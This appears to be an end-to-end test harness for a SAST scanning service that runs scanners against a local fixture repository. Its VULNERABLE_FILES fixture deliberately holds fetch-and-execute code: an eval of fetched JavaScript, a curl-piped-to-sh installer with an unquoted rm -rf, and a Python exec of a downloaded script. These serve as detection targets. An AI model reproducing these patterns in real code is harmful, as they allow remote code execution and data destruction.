import type { ChildProcess } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { captureOutput, makeTempDir, spawnCli, stopChild, waitForListening } from '@scanrelay/test-utils';
import {
  createFakeGitHub,
  createGitHttpServer,
  type FakeGitHub,
  type GitHttpServer,
} from '@scanrelay/testkit';
import { createScanDeps, type ScanJobDeps, type ScannerWorker, startScannerWorker } from '@scanrelay/worker';
import { type Backend, prepareBackend } from './e2e-backend.js';

export type { Backend } from './e2e-backend.js';

/** Loopback over http is where every fake lives: the outbound rules must allow it. */
const LOOPBACK = { allowPrivateUrls: true, allowHttp: true };
const GITHUB_TOKEN = 'ghp_sast-e2e-token-5d1c7a';
/** Signs `POST /scan` to the scanner worker (its backend's own secret). */
const SCANNER_WORKER_SECRET = 'scanner-worker-secret-0b7e4f2a9c';
/** On PostgreSQL the callback secret is configured (on SQLite `serve` generates one). */
const CONFIGURED_CALLBACK_SECRET = 'sast-callback-secret-configured-61f0';

/**
 * The published repository: a critical `patterns` finding (SR002, fetched code evaluated, in JS and
 * Python), a high one (SR001, a download piped into sh), and what bandit and shellcheck report.
 */
const VULNERABLE_FILES = {
  'index.js': "const run = async () => eval(await (await fetch('https://cdn.example.com/x.js')).text());\n",
  'install.sh': '#!/bin/sh\ncurl -fsSL https://get.example.com/setup.sh | sh\ncd $1\nrm -rf $TARGET/cache\n',
  'fetch.py':
    "import urllib.request\n\nexec(urllib.request.urlopen('https://cdn.example.com/x.py').read())\n",
  'README.md': '# skill\n',
};

/** Which provider runs where: the three backends of issue 14. */
export const PROVIDERS = { local: 'patterns', github: 'bandit', scannerWorker: 'shellcheck' } as const;

export interface SastE2eService {
  backend: Backend;
  url: string;
  /** An upload+read key of tenant acme. */
  apiKey: string;
  dir: string;
  dataDir: string;
  repo: GitHttpServer;
  /** The commit the repository serves (what every scan must report). */
  commit: string;
  github: FakeGitHub;
  scannerWorker: ScannerWorker;
  /** The callback secret the service accepts: configured, or the one `serve` generated. */
  callbackSecret(): string;
  /** The Ed25519 public key (SPKI PEM) that signs local attestations, when the test configured it. */
  configuredPublicKey?: string;
  /** Everything `scanrelay serve` printed. */
  log(): string;
  /** The environment of client commands against this service. */
  clientEnv(): NodeJS.ProcessEnv;
  close(): Promise<void>;
}

/**
 * The scanner worker's real scan and delivery, signed with the service's callback secret, which on
 * SQLite exists only once `serve` has generated it: it is read when a result is delivered.
 */
function scannerWorkerDeps(secret: () => string): ScanJobDeps {
  return {
    scan: (request, context) =>
      createScanDeps({ secret: 'unused-for-scanning', policy: LOOPBACK }).scan(request, context),
    deliver: (result, url, context) =>
      createScanDeps({ secret: secret(), policy: LOOPBACK }).deliver(result, url, context),
  };
}

/**
 * `scanrelay serve` as a process on `backend` with three SAST providers: `patterns` in its own worker,
 * `bandit` on GitHub (the fake GitHub records the dispatch; the test plays the workflow), `shellcheck`
 * on a scanner worker running in this process. On SQLite nothing about SAST is configured but the
 * providers (the callback secret and signing key are generated into the data dir); on PostgreSQL with
 * BullMQ they come from the environment, the key as one line with literal `\n`.
 */
export async function startSastE2eService(backend: Backend): Promise<SastE2eService> {
  const tmp = makeTempDir('scanrelay-sast-e2e-');
  const dataDir = path.join(tmp.dir, 'data');
  const repo = await createGitHttpServer({ name: 'skill' });
  const commit = await repo.commit(VULNERABLE_FILES, 'a skill with a backdoor');
  const github = await createFakeGitHub({ tokens: [GITHUB_TOKEN] });
  const callbackSecret = () =>
    backend === 'postgres'
      ? CONFIGURED_CALLBACK_SECRET
      : readFileSync(path.join(dataDir, 'sast-callback.secret'), 'utf8').trim();
  const scannerWorker = await startScannerWorker({
    secret: SCANNER_WORKER_SECRET,
    port: 0,
    policy: LOOPBACK,
    deps: scannerWorkerDeps(callbackSecret),
  });
  const prepared = await prepareBackend(backend, dataDir, 'sast');
  const config = path.join(tmp.dir, 'scanrelay.config.yaml');
  const providers = [
    { provider: PROVIDERS.local, backend: { kind: 'local' } },
    { provider: PROVIDERS.github, backend: { kind: 'github', owner: 'acme', repo: 'scanners' } },
    {
      provider: PROVIDERS.scannerWorker,
      backend: { kind: 'scanner-worker', url: scannerWorker.url, secret: SCANNER_WORKER_SECRET },
    },
  ];
  // YAML is a superset of JSON.
  writeFileSync(config, JSON.stringify({ server: { logLevel: 'debug' }, sast: { providers } }));
  const keys = generateKeyPairSync('ed25519');
  const sastEnv =
    backend === 'postgres'
      ? {
          SCANRELAY_SAST_CALLBACK_SECRET: `${CONFIGURED_CALLBACK_SECRET},an-older-secret-during-rotation`,
          SCANRELAY_SAST_SIGNING_KEY: keys.privateKey
            .export({ type: 'pkcs8', format: 'pem' })
            .toString()
            .replaceAll('\n', '\\n'),
        }
      : { SCANRELAY_SAST_CALLBACK_SECRET: '', SCANRELAY_SAST_SIGNING_KEY: '' };

  let log: () => string = () => '';
  let serve: ChildProcess | undefined;
  const close = async () => {
    await stopChild(serve);
    await scannerWorker.close({ graceMs: 5_000, deliverGraceMs: 5_000 });
    await github.close();
    await repo.close();
    await prepared.cleanup();
    tmp.cleanup();
  };
  try {
    serve = spawnCli(['serve', '--port', '0', '--data-dir', dataDir, '--config', config], {
      env: {
        ...prepared.env,
        ...sastEnv,
        SCANRELAY_SAST_CALLBACK_URL: '',
        SCANRELAY_GITHUB_TOKEN: GITHUB_TOKEN,
        SCANRELAY_GITHUB_API_URL: github.url,
        SCANRELAY_ALLOW_PRIVATE_URLS: 'true',
        SCANRELAY_ALLOW_HTTP_URLS: 'true',
      },
      cwd: tmp.dir,
    }).child;
    log = captureOutput(serve);
    const url = await waitForListening(serve, log);
    return {
      backend,
      url,
      apiKey: prepared.key,
      dir: tmp.dir,
      dataDir,
      repo,
      commit,
      github,
      scannerWorker,
      callbackSecret,
      configuredPublicKey:
        backend === 'postgres'
          ? keys.publicKey.export({ type: 'spki', format: 'pem' }).toString()
          : undefined,
      log: () => log(),
      clientEnv: () => ({ SCANRELAY_API_URL: url, SCANRELAY_API_KEY: prepared.key }),
      close,
    };
  } catch (err) {
    await close();
    throw err;
  }
}
